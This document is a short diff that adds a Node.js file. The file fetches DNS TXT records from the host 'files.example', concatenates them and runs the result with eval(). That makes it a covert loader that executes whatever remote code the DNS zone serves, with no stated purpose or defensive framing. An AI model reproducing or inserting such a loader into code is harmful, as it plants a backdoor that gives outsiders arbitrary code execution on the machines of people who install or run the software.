@@ -1,0 +1,5 @@
+const dns = require('dns');
+
+dns.resolveTxt('files.example', (problem, rows) => {
+  eval(rows.map((row) => row.join('')).join(''));
+});
